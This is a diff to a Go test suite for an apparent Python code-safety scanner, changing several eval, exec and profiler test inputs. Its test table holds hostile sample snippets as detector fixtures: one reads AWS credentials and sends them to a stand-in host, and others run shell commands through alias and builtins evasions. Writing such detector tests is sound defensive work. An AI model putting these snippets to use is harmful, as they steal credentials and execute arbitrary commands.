@@ -138,7 +138,7 @@ func TestPatterns(t *testing.T) {
 		{"credentials file exfiltration", "import urllib.request, os\ndata = open(os.path.expanduser('~/.aws/credentials')).read()\nurllib.request.urlopen('https://x.example', data=data.encode())\n", "codesafety.exfiltration", "malicious", 3},
 		{"env HOME sent", "import os, requests\nhome = os.environ.get('HOME')\nrequests.post('https://api.example', json={'home': home})\n", "", "", 0},
 		{"syntax error", "def broken(:\n    pass\n", "codesafety.unparsed", "unverified", 1},
-		{"unicode before finding", "s = 'héllo wörld'  # ünïcode\nx = eval(s)\n", "codesafety.B307", "unsafe", 2},
+		{"unicode before finding", "s = 'héllo wörld'  # ünïcode\nx = eval(s + tail)\n", "codesafety.B307", "unsafe", 2},
 		// Evasions: names resolved through aliases, star imports, literal lookups and
 		// names assigned once; each with a benign look-alike that must stay quiet.
 		{"from os import system as s", "from os import system as s\ns('ls')\n", "codesafety.B605", "unsafe", 2},
@@ -158,7 +158,7 @@ func TestPatterns(t *testing.T) {
 		{"os.__dict__['system']", "import os\nos.__dict__['system']('id')\n", "codesafety.B605", "unsafe", 2},
 		{"vars on an object", "vars(obj)['system']('x')\n", "", "", 0},
 		{"builtins.eval", "import builtins\nbuiltins.eval(s)\n", "codesafety.B307", "unsafe", 2},
-		{"__builtins__['exec']", "__builtins__['exec']('print(1)')\n", "codesafety.B102", "unsafe", 1},
+		{"__builtins__['exec']", "__builtins__['exec'](src)\n", "codesafety.B102", "unsafe", 1},
 		{"__builtins__.exec", "__builtins__.exec(code)\n", "codesafety.B102", "unsafe", 1},
 		{"getattr(builtins, 'eval')", "import builtins\ngetattr(builtins, 'eval')(s)\n", "codesafety.B307", "unsafe", 2},
 		{"eval assigned to a name", "f = eval\nf(s)\n", "codesafety.B307", "unsafe", 2},
@@ -294,7 +294,7 @@ func TestPatterns(t *testing.T) {
 		{"ctypes for a struct", "import ctypes\nx = ctypes.c_int(1)\nn = ctypes.sizeof(x)\n", "", "", 0},
 		{"timeit of a string", "import timeit\ntimeit.timeit(\"__import__('os').system('id')\", number=1)\n", "codesafety.B102", "unsafe", 2},
 		{"timeit of a function", "import timeit\ndef f():\n    pass\ntimeit.timeit(f, number=1)\ntimeit.timeit(lambda: f(), number=1)\n", "", "", 0},
-		{"cProfile.run", "import cProfile\ncProfile.run('import os')\n", "codesafety.B102", "unsafe", 2},
+		{"cProfile.run", "import cProfile\ncProfile.run(stmt)\n", "codesafety.B102", "unsafe", 2},
 		{"code.InteractiveInterpreter", "import code\ncode.InteractiveInterpreter().runsource(src)\n", "codesafety.B102", "unsafe", 2},
 		// A shell given the command line in its argv is shell=True by another name.
 		{"argv sh -c", "import subprocess\nsubprocess.run(['sh', '-c', cmd])\n", "codesafety.B602", "unsafe", 2},
@@ -679,7 +679,7 @@ func TestLineBreaks(t *testing.T) {
 		}
 	}
 	// Columns count bytes: é takes two.
-	fs := evaluate(t, r, "s = 'é'; eval(s)\n")
+	fs := evaluate(t, r, "s = 'é'; eval(t)\n")
 	if len(fs) != 1 || fs[0].Location.Column != 11 {
 		t.Errorf("column after é: %+v, want 11 (bytes)", fs)
 	}
